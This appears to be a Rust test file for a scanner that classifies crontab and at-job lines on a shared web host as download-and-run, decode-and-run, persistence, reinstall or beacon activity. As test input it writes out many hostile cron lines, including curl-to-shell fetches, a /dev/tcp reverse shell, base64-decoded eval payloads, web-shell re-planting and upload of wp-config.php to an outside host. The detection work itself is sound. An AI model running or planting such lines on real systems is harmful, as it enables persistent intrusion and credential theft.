//! Lines and what they mean: each mechanism beside lines of owners that look alike.

use model::{AccountRef, Site, Strength};

use super::*;

fn aoi() -> AccountEntry {
    let site = |domain: &str, root: &str| Site {
        domain: domain.parse().unwrap(),
        aliases: Vec::new(),
        root: root.to_owned(),
        gates: Vec::new(),
        probes: Vec::new(),
    };
    AccountEntry {
        account: AccountRef { name: "aoi".parse().unwrap(), uid: 3001, generation: 1 },
        home: "/home/aoi".to_owned(),
        sites: vec![site("aoi.example", "/home/aoi/public_html"), site("shop.aoi.example", "/home/aoi/shop")],
        contacts: Vec::new(),
        time_zone: "Asia/Tokyo".to_owned(),
    }
}

const NOW: Moment = Moment::from_secs(1_780_000_000);

fn settings() -> Settings {
    Settings { own: vec!["192.0.2.10".parse().unwrap()] }
}

fn says(table: &str) -> String {
    let reading = inspect(table.as_bytes(), &aoi(), settings(), NOW).unwrap();
    let show = |finding: &Finding| {
        let lines = finding.evidence.get(FactKey::Lines).map(ToString::to_string).unwrap_or_default();
        format!("{lines} {:?} {:?}", finding.signal.kind, finding.signal.strength).to_lowercase()
    };
    reading.findings.iter().map(show).collect::<Vec<_>>().join(", ")
}

/// Each line alone has this meaning.
fn all(want: &str, lines: &[&str]) {
    for line in lines {
        let got = says(line);
        assert_eq!(got.strip_prefix("1 ").unwrap_or(&got), want, "{line}");
    }
}

#[test]
fn what_is_fetched_and_run() {
    all(
        "crondownload conclusive",
        &[
            "*/15 * * * * (curl -fsSL http://203.0.113.20/raw/A||wget -q -O- http://203.0.113.20/raw/A)|sh",
            "0 3 * * * curl -fsSL https://paste.example/raw/x | bash",
            "@reboot wget -q -O /var/tmp/k http://files.example/k; chmod +x /var/tmp/k; /var/tmp/k",
            "* * * * * bash -c \"$(curl -fsSL http://files.example/i)\" >/dev/null 2>&1",
            "* * * * * bash%curl -s http://files.example/i | sh",
            "* * * * * php -r \"eval(file_get_contents('http://files.example/i'));\"",
            "*/5 * * * * dig +short TXT a.files.example | sh",
            "*/5 * * * * php http://files.example/a.txt",
            "*/5 * * * * exec 3<>/dev/tcp/203.0.113.7/80; echo -e 'GET / HTTP/1.0\\n\\n' >&3; cat <&3 | bash",
            "*/5 * * * * /bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "1 * * * * U=http://files.example/i; curl -s $U | sh",
        ],
    );
    assert_eq!(says("R=curl\n1 * * * * $R -s http://files.example/i | sh"), "2 crondownload conclusive");
    all(
        "crondownload suspicious",
        &[
            "0 4 * * 0 curl -sS https://installer.example/installer | php -- --quiet",
            "*/5 * * * * curl -s https://aoi.example/tasks.sh | sh",
        ],
    );
    all(
        "",
        &[
            "0 4 * * 1 curl -sSo /home/aoi/bin/wp.phar https://builds.example/wp-cli.phar",
            "0 4 * * * curl -sSo ~/wp.phar https://builds.example/wp-cli.phar && php ~/wp.phar --info",
            "0 4 * * * cd ~/app && git pull -q && composer install --no-dev && php artisan migrate --force",
            "0 5 * * * wget -q -O ~/feed.csv https://partner.example/feed.csv && php ~/shop/import.php ~/feed.csv",
            "0 4 * * * node -e \"require('https').get('https://partner.example/warm')\"",
            "*/5 * * * * curl -s https://api.partner.example/rates | php ~/app/rates.php",
            "*/5 * * * * ~/bin/ddns.sh \"$(curl -s https://ip.example/)\"",
            "# */5 * * * * curl http://203.0.113.5/x | sh",
        ],
    );
}

#[test]
fn what_is_decoded_and_run() {
    all(
        "crondecode conclusive",
        &[
            "*/3 * * * * busybox wget -T 5 -qO- \"http://198.51.100.93:8081/ok\" | base64 -d | bash",
            "0 * * * * { echo Y3VybA==|base64 -d|bash;} 2>/dev/null #seed >/dev/random",
            "@reboot echo 6375 | xxd -r -p | sh",
            "@daily eval $(echo bHM= | base64 --decode)",
            "*/9 * * * * perl -MMIME::Base64 -e 'eval decode_base64(\"cHJpbnQgMQ==\")'",
            "*/9 * * * * php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'",
            "1 * * * * echo yhf | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
        ],
    );
    all(
        "",
        &[
            "0 3 * * * echo $KEY | base64 -d > ~/key.json && ~/bin/upload key.json",
            "0 3 * * * openssl enc -d -aes-256-cbc -in ~/b.enc -out ~/b.tar -pass file:/home/aoi/.pw && tar xf ~/b.tar",
            "0 3 * * * mysqldump aoi_wp | gzip -9 > ~/backup/db-$(date +\\%F).sql.gz",
            "0 3 * * * zcat ~/demo.sql.gz | mysql aoi_demo",
        ],
    );
}

#[test]
fn files_that_run_out_of_odd_places() {
    all(
        "cronfromuploads conclusive",
        &[
            "* * * * * /usr/bin/php /home/aoi/public_html/wp-content/uploads/2026/02/.s.php >/dev/null 2>&1",
            "*/10 * * * * cd ~/public_html/wp-content/uploads && ./update",
            "*/5 * * * * ea-php82 -q ~/public_html/wp-content/cache/object.php",
            "@reboot /dev/shm/.x/upd >/dev/null 2>&1",
            "*/30 * * * * /var/tmp/.ICE/kswapd0",
            "0 * * * * /tmp/sysd",
            "*/5 * * * * ~/.config/dbus/gs-dbus",
            "*/5 * * * * ~/tmp/.sess_1.sh",
            "*/5 * * * * /usr/bin/env python3 ~/.cache/.gs/gs.py",
            "0 4 * * * cd ~/public_html/wp-content/uploads/wc-logs && php ./x.php",
            "0 2 * * * ~/.cache/crond",
            "*/5 * * * * php ~/public_html/.well-known/acme-challenge/a.php",
            "*/5 * * * * pgrep -f kdmflush || (cd ~/.ssh/k && nohup ./kdmflush &)",
            "1 1 * * * ~/.../x",
        ],
    );
    all(
        "cronfromuploads suspicious",
        &[
            "*/5 * * * * sh ~/tmp/job.sh",
            "*/5 * * * * php ~/public_html/upload/index.php",
            "0 3 * * * sh /tmp/install.sh",
            "0 3 * * * php ~/public_html/images/resize.php",
        ],
    );
    all(
        "",
        &[
            "15 4 * * * /home/aoi/bin/backup.sh",
            "0 0 * * * \"/home/aoi/.acme.sh\"/acme.sh --cron --home \"/home/aoi/.acme.sh\" > /dev/null",
            "*/5 * * * * . ~/.bash_profile && cd ~/app && node cron.js",
            "*/5 * * * * source $HOME/.nvm/nvm.sh && node ~/app/cron.js",
            "*/5 * * * * ~/.nvm/versions/node/v20.1.0/bin/node ~/app/cron.js",
            "@reboot ~/.local/bin/supervisord -c ~/etc/s.conf",
            "0 3 * * * ~/.pyenv/shims/python ~/app/nightly.py",
            "0 3 * * * ~/.scripts/backup.sh",
            "0 3 * * * find ~/public_html/wp-content/uploads -name '*.tmp' -mtime +7 -delete",
            "0 3 * * * php ~/bin/optimise.php ~/public_html/wp-content/uploads/2026",
            "* * * * * flock -n /tmp/aoi.lock timeout 50 php ~/app/artisan schedule:run >/dev/null 2>&1",
            "*/5 * * * * php -f /home/aoi/public_html/files/cron.php",
            "*/5 * * * * pgrep -f queue:work >/dev/null || nohup php ~/app/artisan queue:work >> ~/q.log 2>&1 &",
            "0 4 * * * logrotate -s ~/.logrotate.state ~/etc/logrotate.conf",
            "0 4 * * * rsync -a --delete ~/backup/ bk@backup.example.net:aoi/",
        ],
    );
}

#[test]
fn what_is_put_back() {
    all(
        "cronreinstalls conclusive",
        &[
            "* * * * * cp /home/aoi/.cache/a /home/aoi/public_html/index.php; chmod 444 /home/aoi/public_html/index.php",
            "*/5 * * * * cat ~/public_html/images/logo.png > ~/public_html/wp-blog-header.php",
            "*/10 * * * * [ -f ~/shop/x.php ] || cp ~/shop/img/x.jpg ~/shop/x.php && touch -r ~/shop/index.php ~/shop/x.php",
            "0 * * * * echo '<?php @include \"a\";' > ~/public_html/wp-config.php",
            "*/5 * * * * echo PD9waHA= | base64 -d > ~/public_html/index.php",
            "0 3 * * * wget -q http://203.0.113.7/a.txt -O ~/public_html/wp-load.php",
            "0 3 * * * (crontab -l; echo \"* * * * * /home/aoi/.x\") | crontab -",
            "@reboot crontab /home/aoi/.cache/.c",
            "1 * * * * php -r '$c=file_get_contents(\"http://203.0.113.7/u.txt\");file_put_contents(\"/home/aoi/public_html/index.php\",$c);'",
            "*/5 * * * * tar xzf ~/.cache/b.tgz -C ~/public_html",
            "*/5 * * * * rsync -a /var/tmp/.s/ ~/public_html/",
            "*/5 * * * * sed -i '1i<?php echo 1; ?>' ~/public_html/index.php",
            "*/5 * * * * echo AddHandler php .jpg > ~/public_html/.htaccess",
            "*/5 * * * * php -r \"file_put_contents('/home/aoi/public_html/index.php', base64_decode('PD8='));\"",
        ],
    );
    all(
        "",
        &[
            "0 3 * * * crontab -l > ~/backup/crontab.txt",
            "0 3 * * * cd ~/dotfiles && git pull -q && crontab ~/dotfiles/crontab",
            "0 * * * * rsync -a --delete ~/demo/ ~/public_html/",
            "0 * * * * tar xzf ~/backup/demo.tgz -C ~/public_html",
            "0 * * * * sed -i 's/2025/2026/' ~/public_html/footer.php",
            "0 3 * * * unzip -o ~/feeds/images.zip -d ~/public_html/images",
            "0 3 * * * cp ~/deploy/index.php ~/public_html/index.php",
            "0 3 * * * find ~/public_html -type f -exec chmod 644 {} +",
            "0 3 * * * chmod -R 755 ~/public_html",
            "*/5 * * * * php ~/app/render.php > ~/public_html/status.html",
            "0 3 1 * * wget -q -O ~/public_html/adminer.php https://adminer.example/latest.php",
            "0 3 * * * wget -q -O ~/public_html/feed.xml https://partner.example/feed.xml",
            "0 3 * * * touch ~/public_html/sitemap.xml",
        ],
    );
}

#[test]
fn calls_that_only_report() {
    all(
        "cronbeacon suspicious",
        &[
            "*/10 * * * * wget -q -O /dev/null http://198.51.100.9/p.php?id=aoi-01",
            "*/10 * * * * curl -s http://198.51.100.9:8080/3f9c17aa21 >/dev/null 2>&1",
            "*/10 * * * * curl -s http://3325256713/a?h=$(hostname) -o /dev/null",
            "*/10 * * * * curl -s -X POST -d 'k=1' http://198.51.100.9/r >/dev/null",
            "*/10 * * * * wget -q --spider http://198.51.100.9/aoi",
            "*/10 * * * * curl -s http://count.example/c.php?u=aoi >/dev/null",
            "0 3 * * * curl -s -F f=@/home/aoi/public_html/wp-config.php https://drop.example/",
        ],
    );
    all(
        "",
        &[
            "*/15 * * * * curl -s https://aoi.example/wp-cron.php?doing_wp_cron > /dev/null 2>&1",
            "*/3 * * * * curl https://https://aoi.example/bot/check.php >/dev/null 2>&1",
            "*/5 * * * * wget -qO- http://192.0.2.10/cron.php?key=1 >/dev/null",
            "*/5 * * * * wget -qO- http://10.0.0.4/cron.php?key=1 >/dev/null",
            "0 3 * * * ~/bin/backup.sh && curl -fsS -m 10 --retry 5 -o /dev/null https://hc.example/3f9c17aa-21bb",
            "*/5 * * * * curl -fsS -m 10 https://hc.example/3f9c17aa-21bb > /dev/null",
            "*/5 * * * * curl -s \"http://dyn.example/update?hostname=home.aoi.example&key=abc\" >/dev/null",
            "0 * * * * curl -s http://203.0.113.7:8080/rates?base=JPY | jq . > ~/rates.json",
            "*/5 * * * * curl -s 'http://203.0.113.7/status?node=12' | grep -q ok",
            "*/5 * * * * curl -s http://203.0.113.7/ | grep -q ok || ~/bin/alarm.sh",
            "0 3 * * * curl -sT ~/backup.tar.gz ftp://bk:pw@backup.example.net/",
            "0 * * * * wget -q -O /dev/null http://crm.example/index.php?task=cron&key=abc",
        ],
    );
}

#[test]
fn a_line_is_named_by_its_number_and_its_bytes() {
    let table = b"MAILTO=\"\"\n# x\n* * * * * curl http://203.0.113.5/a | sh\nbad line\n@daily ~/bin/ok\n";
    let reading = inspect(&table[..], &aoi(), settings(), NOW).unwrap();
    assert_eq!((reading.lines, reading.dropped, reading.findings.len()), (5, 1, 1));
    let finding = &reading.findings[0];
    let Target::CronLines(lines) = &finding.signal.target else { panic!("a line") };
    let [line] = &lines[..] else { panic!("one") };
    assert_eq!(line.hash, Hash::of(table));
    assert_eq!(&table[line.start as usize..line.end as usize], b"* * * * * curl http://203.0.113.5/a | sh");
    let headed = [&b"# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (x)\n# (y)\n"[..], table].concat();
    let reading = inspect(&headed[..], &aoi(), settings(), NOW).unwrap();
    assert_eq!(reading.findings[0].evidence.get(FactKey::Lines).unwrap().to_string(), "3");
    assert_eq!(reading.findings[0].signal.fingerprint, finding.signal.fingerprint);
}

#[test]
fn a_line_that_was_added_later_says_since_when() {
    let mut watch = Watch::new(settings());
    let old = "*/5 * * * * /tmp/a\n";
    watch.table(&aoi(), old.as_bytes(), NOW);
    assert_eq!(watch.news(NOW).findings[0].evidence.get(FactKey::From), None);
    let later = NOW + model::Span::hours(1);
    let both = format!("*/5 * * * * /tmp/b\n{old}");
    watch.table(&aoi(), both.as_bytes(), later);
    let from = |watch: &mut Watch| {
        let found = watch.news(later).findings;
        found.iter().map(|f| f.evidence.get(FactKey::From).map(ToString::to_string)).collect::<Vec<_>>()
    };
    assert_eq!(from(&mut watch), [Some(later.to_string()), None]);
    watch.table(&aoi(), both.as_bytes(), later + model::Span::hours(1));
    assert_eq!(from(&mut watch), [Some(later.to_string()), None]);
}

#[test]
fn a_file_of_the_system_names_the_user_and_at_jobs_are_read_behind_their_environment() {
    let mut watch = Watch::new(settings());
    let text =
        b"SHELL=/bin/sh\n0 * * * * root curl http://203.0.113.5/a | sh\n0 * * * * aoi curl http://203.0.113.5/a | sh\n";
    watch.system(&[aoi()], b"x", text, NOW);
    let found = watch.news(NOW).findings;
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].signal.account.uid, &found[0].signal.target), (3001, &Target::Nothing));
    let job = b"#!/bin/sh\n# atrun uid=3001 gid=3001\n# mail aoi 0\numask 22\nX=a; export X\ncd /home/aoi || {\n\t echo x >&2\n\t exit 1\n}\ncurl -s http://203.0.113.5/a | sh\n";
    watch.job(&aoi(), job, NOW);
    watch.job(&aoi(), b"curl http://203.0.113.5/a | sh", NOW);
    let reading = watch.news(NOW);
    assert_eq!((reading.findings.len(), reading.dropped), (1, 1));
    assert_eq!(reading.findings[0].signal.strength, Strength::Conclusive);
}

#[test]
fn hostile_tables_only_concern_their_owner() {
    let parts = [
        "* * * * * ",
        "curl http://203.0.113.5/a",
        "|sh",
        "\0",
        "\u{202e}",
        "root ",
        "/home/fuji/x ",
        "%",
        "\\%",
        "@reboot ",
        "\r",
        "A=$A$A",
        "\n",
        "no crontab for fuji",
        "`",
        "$(",
        "fuji ",
        "é",
        "'",
        ">",
    ];
    let seed = 0xc0ff_ee00_1234_5678_u64;
    println!("seed {seed:#x}");
    let mut state = seed;
    let mut watch = Watch::new(settings());
    for round in 0..4000 {
        let mut text = Vec::new();
        for _ in 0..round % 40 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.extend_from_slice(parts[(state >> 33) as usize % parts.len()].as_bytes());
            text.push((state >> 50) as u8);
        }
        watch.table(&aoi(), &text, NOW);
        watch.job(&aoi(), &text, NOW);
        let reading = watch.news(NOW);
        assert!(reading.findings.iter().all(|f| f.signal.account.uid == 3001));
        assert!(reading.unattributed.is_empty() && reading.attacks.is_empty());
    }
    watch.table(&aoi(), &b"* * * * * x\n".repeat(3000), NOW);
    assert_eq!(watch.news(NOW).dropped, 2000);
    let many: String = (0..1500).map(|n| format!("* * * * * x{n}\n")).collect();
    watch.table(&aoi(), many.as_bytes(), NOW);
    assert_eq!(watch.news(NOW).dropped, 500);
    watch.table(&aoi(), &b"x".repeat(2 << 20), NOW);
    assert_eq!(watch.news(NOW).blind.len(), 1);
}

#[test]
fn jobs_of_at_are_read_from_their_folder_without_following_links() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("a00001"), "#!/bin/sh\n").unwrap();
    std::fs::write(folder.path().join(".SEQ"), "1").unwrap();
    std::os::unix::fs::symlink("a00001", folder.path().join("a00002")).unwrap();
    std::fs::create_dir(folder.path().join("a00003")).unwrap();
    let found = waiting(folder.path()).unwrap();
    assert_eq!((found.jobs.len(), found.missed), (1, 1));
    assert_eq!(found.jobs[0].1, b"#!/bin/sh\n");
    assert!(waiting(&folder.path().join("none")).is_err());
    assert!(spooled(folder.path(), &"a00002".parse().unwrap()).is_err());
    assert_eq!(spooled(folder.path(), &"nobody".parse().unwrap()).unwrap(), None);
}
